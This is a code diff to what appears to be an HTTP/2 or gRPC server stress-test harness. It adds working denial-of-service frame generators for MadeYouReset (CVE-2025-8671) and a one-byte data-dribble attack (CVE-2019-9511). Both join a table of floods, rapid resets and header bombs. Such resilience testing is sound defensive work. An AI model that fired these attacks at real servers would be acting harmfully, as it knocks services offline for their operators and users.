@@ -151,6 +151,17 @@ def whole(stream: int) -> bytes:
     return headers(stream) + DataFrame(stream, CALL, flags=["END_STREAM"]).serialize()
 
 
+def wrong(stream: int) -> bytes:
+    """A call, and then an error of its stream: the server is to reset it (MadeYouReset, CVE-2025-8671)."""
+    # By hand: hyperframe writes no WINDOW_UPDATE of 0.
+    return whole(stream) + b"\0\0\x04\x08\0" + stream.to_bytes(4, "big") + bytes(4)
+
+
+def dribble(stream: int) -> bytes:
+    """A message that comes in frames of one byte, and never whole (CVE-2019-9511)."""
+    return headers(stream) + b"".join(DataFrame(stream, bytes([byte])).serialize() for byte in CALL[:-1])
+
+
 def lying(stream: int) -> bytes:
     return headers(stream) + DataFrame(stream, PREFIX.pack(0, 2**32 - 1) + b"x").serialize()
 
@@ -281,6 +292,7 @@ ATTACKS: dict[str, Attack] = {
     "rapid resets of headers": resetting(headers),
     "rapid resets of whole calls": resetting(whole),
     "rapid resets of half-sent calls": resetting(half_sent),
+    "MadeYouReset": opening(wrong, streams=200, connections=4),
     "CONTINUATION flood": continuation_flood(b"\x00\x01x\x01v" * 200),
     "empty CONTINUATION flood": continuation_flood(b""),
     "PING flood": flood(PingFrame(0, b"12345678").serialize() * 1000),
@@ -289,6 +301,7 @@ ATTACKS: dict[str, Attack] = {
     "PRIORITY flood": flood(PriorityFrame(1, depends_on=3, stream_weight=1).serialize() * 1000),
     "WINDOW_UPDATE flood": flood(WindowUpdateFrame(0, window_increment=1).serialize() * 1000),
     "empty DATA flood": flood(headers(1) + DataFrame(1).serialize() * 1000),
+    "data dribble": opening(dribble, streams=100, connections=4),
     "header bombs": header_bombs(settled=True),
     "header bombs, unsettled": header_bombs(settled=False),
     "lying lengths": opening(lying, streams=100, connections=10),
